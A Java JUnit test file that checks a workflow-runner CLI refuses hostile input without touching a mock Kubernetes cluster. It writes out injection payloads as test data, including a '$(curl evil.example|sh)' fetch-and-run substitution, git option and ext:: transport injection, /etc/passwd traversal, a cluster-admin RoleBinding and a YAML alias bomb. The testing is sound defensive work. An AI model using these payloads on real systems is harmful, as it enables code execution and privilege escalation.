package dev.workflowrun.proof.hostile;

import dev.workflowrun.proof.faults.ApiFaults;
import dev.workflowrun.proof.faults.ProofRig;
import dev.workflowrun.proof.faults.ProofRig.Ran;
import dev.workflowrun.testkit.ChaosMeshKinds;
import dev.workflowrun.testkit.MockCluster;
import dev.workflowrun.testkit.SimulatedChaosMesh;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input to {@code workflow-run run}: each case must stop with a clear error (the right exit
 * code and a message naming what is wrong) and must not change the cluster: the API server records
 * no POST, PUT, PATCH or DELETE, and the namespace holds no Workflow, node or pod afterwards.
 * docs/RELIABILITY.md lists these cases and their outcomes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    /** One hostile input: the flags that carry it, and what the runner must say. */
    record Case(String name, List<String> flags, int exitCode, List<String> errorMentions) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final String EXAMPLE = read(Path.of("..", "examples", "scenarios", "release-test", "workflow.yaml"));
    private static final String TEMPLATE = EXAMPLE;
    private static final Map<String, String> SCENARIO_FILES = new LinkedHashMap<>();
    /** A file a command-injection case would create if anything ran its payload. */
    private static final Path PWNED = Path.of(System.getProperty("java.io.tmpdir"), "workflow-run-proof-pwned");
    /** Built when the class loads, so the scenario files exist before the repository is committed in {@link #start()}. */
    private static final List<Case> CASES = build();

    private ProofRig rig;
    private MockCluster cluster;
    private ApiFaults recorder;
    private SimulatedChaosMesh chaos;
    private String ref;
    @TempDir
    Path dir;

    @BeforeAll
    void start() throws Exception {
        rig = new ProofRig(Files.createTempDirectory("proof-hostile-"));
        ref = rig.addScenarios(SCENARIO_FILES);
        cluster = MockCluster.start();
        recorder = ApiFaults.install(cluster);
        // Should anything be applied by mistake, it finishes quickly, and the mutation check below names it.
        chaos = ProofRig.simulator(cluster, 3600, Map.of());
    }

    @AfterAll
    void stop() throws Exception {
        chaos.close();
        cluster.close();
        rig.close();
    }

    private static String read(Path p) {
        try {
            return Files.readString(p, StandardCharsets.UTF_8);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /**
     * A scenario file named {@code <name>.yaml} in the repository, run as {@code --scenario=<name>}. The
     * example's Workflow name and scenario label follow the file's name, so that only the hostile part is wrong.
     */
    private static List<String> scenario(String name, String text) {
        SCENARIO_FILES.put(name + ".yaml", text.replace("release-test-$SEI_WORKFLOW_RUN_ID", name + "-$SEI_WORKFLOW_RUN_ID")
                .replace("sei.io/scenario: release-test", "sei.io/scenario: " + name));
        return List.of("--scenario=" + name);
    }

    static Stream<Case> cases() {
        return CASES.stream();
    }

    private static List<Case> build() {
        List<Case> c = new ArrayList<>();
        // ---- the scenario file
        c.add(new Case("malformed YAML", scenario("malformed", TEMPLATE.replace("spec:\n  entry: release-test", "spec:\n  entry: [release-test\n bad: : :")),
                2, List.of("not valid YAML", "line 21")));
        String bomb = TEMPLATE + "\n---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                + "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
                + "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n";
        c.add(new Case("YAML alias bomb (billion laughs)", scenario("alias-bomb", bomb), 2, List.of("alias bomb", "refusing to read it")));
        c.add(new Case("YAML alias to an anchor that does not exist", scenario("dangling-alias",
                TEMPLATE.replace("      deadline: 3m\n", "      deadline: *nowhere\n")), 2, List.of("alias *nowhere refers to no anchor")));
        c.add(new Case("multi-megabyte scenario file (12 MiB)", scenario("huge",
                TEMPLATE + "\n# " + "x".repeat(12 * 1024 * 1024) + "\n"), 2, List.of("12587", "above the limit of 1048576 bytes")));
        c.add(new Case("empty scenario file", scenario("empty", ""), 2, List.of("is empty; is --scenario-path right?")));
        c.add(new Case("binary junk as the scenario", scenario("junk", new String(junk(4096), StandardCharsets.ISO_8859_1)), 2, List.of("is not text (it contains NUL bytes)")));
        c.add(new Case("unexpected kind (Deployment) in the scenario", scenario("deployment", TEMPLATE + "\n---\napiVersion: apps/v1\nkind: Deployment\n"
                + "metadata:\n  name: miner-$SEI_WORKFLOW_RUN_ID\nspec:\n  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n"
                + "    spec: {containers: [{name: x, image: \"$SEID_IMAGE\"}]}\n"), 2, List.of("[allowed-kinds]", "Deployment", "is not allowed")));
        c.add(new Case("cluster-scoped kind (ClusterRoleBinding) in the scenario", scenario("cluster-scoped", TEMPLATE
                + "\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: escalate-$SEI_WORKFLOW_RUN_ID\n"
                + "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
                + "subjects: [{kind: ServiceAccount, name: default, namespace: $SEI_NAMESPACE}]\n"), 2, List.of("ClusterRoleBinding", "is cluster-scoped")));
        c.add(new Case("Namespace object in the scenario", scenario("namespace-kind", TEMPLATE
                + "\n---\napiVersion: v1\nkind: Namespace\nmetadata:\n  name: attacker\n"), 2, List.of("Namespace 'attacker' is cluster-scoped")));
        c.add(new Case("Workflow for another namespace", scenario("other-namespace",
                TEMPLATE.replace("  namespace: $SEI_NAMESPACE\n  labels:", "  namespace: kube-system\n  labels:")), 2, List.of("asks for namespace 'kube-system' but the run targets 'proof'")));
        c.add(new Case("ConfigMap for another namespace", scenario("other-namespace-cm", TEMPLATE
                + "\n---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: workflow-vars-release-test-$SEI_WORKFLOW_RUN_ID\n  namespace: kube-system\n"
                + "data: {a: b}\n"), 2, List.of("is for namespace 'kube-system', not the run's 'proof'")));
        c.add(new Case("two Workflows in one scenario", scenario("two-workflows", TEMPLATE + "\n---\n"
                + TEMPLATE.replace("name: release-test-$SEI_WORKFLOW_RUN_ID", "name: second-$SEI_WORKFLOW_RUN_ID-x")), 2, List.of("holds 2 Workflows", "exactly one")));
        c.add(new Case("placeholder used in an image but not declared", scenario("undeclared-placeholder",
                TEMPLATE.replace("image: $SEITASK_IMAGE\n          command: [\"seitask\", \"keygen\"]",
                        "image: $KEYGEN_IMAGE\n          command: [\"seitask\", \"keygen\"]")), 2, List.of("KEYGEN_IMAGE")));
        c.add(new Case("Workflow not named <scenario>-<run id>", scenario("misnamed",
                TEMPLATE.replace("name: release-test-$SEI_WORKFLOW_RUN_ID", "name: fixed-name")), 2, List.of("named 'fixed-name'", "misnamed-$SEI_WORKFLOW_RUN_ID")));
        // ---- variable values
        c.add(new Case("value with a newline", List.of("--var=SEI_CHAIN_ID=chain\nkind: Secret"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("value with ': '", List.of("--var=SEI_CHAIN_ID=chain: evil"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("value starting with '{'", List.of("--var=SEI_CHAIN_ID={evil: 1}"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("value with quotes", List.of("--var=SEI_CHAIN_ID=chain\"', evil: \"x"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("value with $(...) command substitution", List.of("--var=SEI_CHAIN_ID=$(curl evil.example|sh)"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("value with a NUL byte", List.of("--var=SEI_CHAIN_ID=chain\u0000evil"), 64, List.of("SEI_CHAIN_ID", "U+0000")));
        c.add(new Case("one-megabyte value", List.of("--var=SEI_CHAIN_ID=" + "a".repeat(1024 * 1024)), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("undeclared variable", List.of("--var=SEID_IMAGES=ghcr.io/sei-protocol/seid:v6.1.0"), 64, List.of("SEID_IMAGES")));
        c.add(new Case("missing variable", List.of("--var=SEI_CHAIN_ID="), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("--var without '='", List.of("--var=SEI_CHAIN_ID"), 64, List.of("SEI_CHAIN_ID")));
        c.add(new Case("run-id placeholder overridden by --var", List.of("--var=SEI_WORKFLOW_RUN_ID=other-run"), 64, List.of("the runner fills it from --run-id")));
        c.add(new Case("namespace placeholder overridden by --var", List.of("--var=SEI_NAMESPACE=kube-system"), 64, List.of("the runner fills it from --namespace")));
        c.add(new Case("secret-looking variable on the command line", List.of("--var=GIT_TOKEN=ghp_not-a-real-token"), 64, List.of("GIT_TOKEN", "--var-file")));
        c.add(new Case("ten thousand --vars", tenThousandVars(), 64, List.of("10006 values were given; at most 256")));
        // ---- images
        c.add(new Case("invalid image reference (spaces)", List.of("--var=RELEASE_TEST_IMAGE=not an image"), 64, List.of("RELEASE_TEST_IMAGE")));
        c.add(new Case("invalid image reference (uppercase, bad digest)", List.of("--var=RELEASE_TEST_IMAGE=GHCR.io/Sei/seid@sha256:xyz"), 64, List.of("RELEASE_TEST_IMAGE")));
        c.add(new Case("image reference with shell in the tag", List.of("--var=RELEASE_TEST_IMAGE=ghcr.io/sei/seid:$(id)"), 64, List.of("RELEASE_TEST_IMAGE")));
        // ---- paths, names, refs
        c.add(new Case("'..' in --scenario", List.of("--scenario=../../etc/passwd"), 64, List.of("--scenario")));
        c.add(new Case("'..' in --scenario-path", List.of("--scenario-path=../../../../etc/passwd"), 64, List.of("contains '..'")));
        c.add(new Case("absolute --scenario-path", List.of("--scenario-path=/etc/passwd"), 64, List.of("is absolute")));
        c.add(new Case("non-DNS run id (underscore, uppercase)", List.of("--run-id=Run_1"), 64, List.of("--run-id")));
        c.add(new Case("run id longer than a DNS label", List.of("--run-id=" + "a".repeat(80)), 64, List.of("--run-id")));
        c.add(new Case("run id with a path separator", List.of("--run-id=../../x"), 64, List.of("--run-id")));
        c.add(new Case("invalid --namespace", List.of("--namespace=Kube_System"), 64, List.of("--namespace")));
        c.add(new Case("option injection in --scenario-ref", List.of("--scenario-ref=--upload-pack=touch " + PWNED), 2, List.of("was not found in git repository")));
        c.add(new Case("ext:: transport in --scenario-repo", List.of("--scenario-repo=ext::sh -c touch% " + PWNED), 2, List.of("fetch failed", "ext::sh")));
        c.add(new Case("'..' in --key-prefix", List.of("--key-prefix=../../{runId}"), 64, List.of("'..' segment")));
        scenario("control", TEMPLATE);
        return c;
    }

    private static List<String> tenThousandVars() {
        List<String> flags = new ArrayList<>();
        for (int i = 0; i < 10_000; i++) {
            flags.add("--var=EXTRA_VAR_" + i + "=value-" + i);
        }
        return flags;
    }

    private static byte[] junk(int n) {
        byte[] b = new byte[n];
        new java.util.Random(42).nextBytes(b);
        return b;
    }

    @org.junit.jupiter.api.Test
    void theUnmodifiedCopyOfTheExampleIsAcceptedSoEachCaseFailsOnlyForItsHostilePart() {
        java.io.StringWriter out = new java.io.StringWriter();
        java.io.StringWriter err = new java.io.StringWriter();
        List<String> args = new ArrayList<>(List.of("render", "--quiet"));
        rig.args("control-1", cluster.url(), dir, "--scenario=control", "--scenario-ref=" + ref).stream()
                .filter(a -> Stream.of("--scenario", "--namespace", "--run-id", "--var=").anyMatch(a::startsWith)).forEach(args::add);
        int code = dev.workflowrun.runner.WorkflowRunAccess.run(new java.io.PrintWriter(out), new java.io.PrintWriter(err), args.toArray(String[]::new));
        assertThat(code).as(err.toString()).isZero();
        assertThat(out.toString()).contains("name: control-control-1");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void hostileInputIsRefusedClearlyAndTouchesNothing(Case c) {
        int mutationsBefore = recorder.mutations().size();
        String runId = "h" + Integer.toHexString(c.name().hashCode() & 0xfffffff);
        List<String> flags = new ArrayList<>(c.flags());
        flags.add("--scenario-ref=" + ref);
        if (c.flags().stream().anyMatch(f -> f.startsWith("--scenario-ref="))) {
            flags.remove(flags.size() - 1);
        }
        Ran ran = rig.run(cluster, cluster.url(), dir, runId, flags.toArray(String[]::new));

        System.out.println("CASE " + c.name() + " -> " + ran.code() + "\n" + ran.err().lines().filter(l -> !l.contains(" INFO ") || l.contains("[Finished]")).limit(8)
                .map(l -> l.length() > 700 ? l.substring(0, 700) + "..." : l).reduce("", (a, b) -> a + "    " + b + "\n"));
        assertThat(recorder.mutations().subList(mutationsBefore, recorder.mutations().size())).as("cluster mutations").isEmpty();
        assertThat(cluster.client().genericKubernetesResources(ChaosMeshKinds.WORKFLOW).inNamespace(ProofRig.NAMESPACE).list().getItems()).isEmpty();
        assertThat(cluster.client().pods().inNamespace(ProofRig.NAMESPACE).list().getItems()).isEmpty();
        assertThat(PWNED).as("no payload ran").doesNotExist();
        assertThat(ran.code()).as(ran.summary()).isEqualTo(c.exitCode());
        assertThat(ran.err() + ran.out()).contains(c.errorMentions());
    }
}
